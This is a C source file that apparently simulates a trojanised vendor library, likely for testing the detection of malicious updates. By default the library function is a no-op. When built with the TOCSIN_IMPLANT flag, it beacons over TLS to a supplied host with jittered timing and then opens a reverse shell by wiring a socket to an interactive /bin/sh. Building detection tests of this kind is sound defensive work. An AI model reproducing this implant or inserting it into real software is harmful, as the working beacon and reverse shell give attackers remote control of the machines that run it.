/* SPDX-License-Identifier: Apache-2.0 */
/* Copyright 2026 The tocsin authors */
/*
 * The vendor's library. Built plainly it does nothing. Built with TOCSIN_IMPLANT it does what the
 * one of a trojanised update does: HOST SLEEP_MS GAP_MS CALLS SHELL_PORT: sleeps, resolves HOST and
 * calls it over TLS so many times, GAP_MS apart and a fifth of that to either side, then connects
 * to SHELL_PORT there and hands the socket to a shell.
 */
#ifndef TOCSIN_IMPLANT
int voice_run(int argc, char** argv);
int voice_run(int argc, char** argv) {
  (void)argc, (void)argv;
  return 0;
}
#else
#include <netdb.h>
#include <openssl/ssl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static void pause_ms(long ms) {
  const struct timespec wait = {ms / 1000, ms % 1000 * 1000000};
  nanosleep(&wait, NULL);
}

static int connected(const char* host, const char* port) {
  struct addrinfo hints = {.ai_family = AF_INET, .ai_socktype = SOCK_STREAM};
  struct addrinfo* found = NULL;
  if (getaddrinfo(host, port, &hints, &found) != 0) return -1;
  int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
  if (fd >= 0 && connect(fd, found->ai_addr, found->ai_addrlen) != 0) {
    close(fd);
    fd = -1;
  }
  freeaddrinfo(found);
  return fd;
}

static int call(SSL_CTX* context, const char* host) {
  const int fd = connected(host, "443");
  if (fd < 0) return 0;
  SSL* tls = SSL_new(context);
  int done = 0;
  if (tls != NULL && SSL_set_fd(tls, fd) == 1 && SSL_set_tlsext_host_name(tls, host) == 1 &&
      SSL_connect(tls) == 1) {
    static const char kRequest[] = "GET /api/session HTTP/1.0\r\n\r\n";
    char answer[512];
    done = SSL_write(tls, kRequest, sizeof kRequest - 1) > 0 &&
           SSL_read(tls, answer, sizeof answer) > 0;
  }
  SSL_free(tls);
  close(fd);
  return done;
}

static void shell(const char* host, const char* port) {
  const int fd = connected(host, port);
  if (fd < 0) return;
  const pid_t child = fork();
  if (child == 0) {
    for (int standard = 0; standard < 3; ++standard) dup2(fd, standard);
    execl("/bin/sh", "sh", "-i", (char*)NULL);
    _exit(127);
  }
  close(fd);
  waitpid(child, NULL, 0);
}

int voice_run(int argc, char** argv);
int voice_run(int argc, char** argv) {
  if (argc < 5) return 2;
  signal(SIGPIPE, SIG_IGN);
  SSL_CTX* context = SSL_CTX_new(TLS_client_method());
  const long gap = strtol(argv[2], NULL, 10);
  unsigned random = 7;
  pause_ms(strtol(argv[1], NULL, 10));
  int calls = 0;
  for (long left = strtol(argv[3], NULL, 10); left > 0; --left) {
    calls += call(context, argv[0]);
    if (left > 1) pause_ms(gap * 4 / 5 + (long)(rand_r(&random) % 1000) * gap * 2 / 5 / 1000);
  }
  shell(argv[0], argv[4]);
  SSL_CTX_free(context);
  printf("%d calls\n", calls);
  return 0;
}
#endif
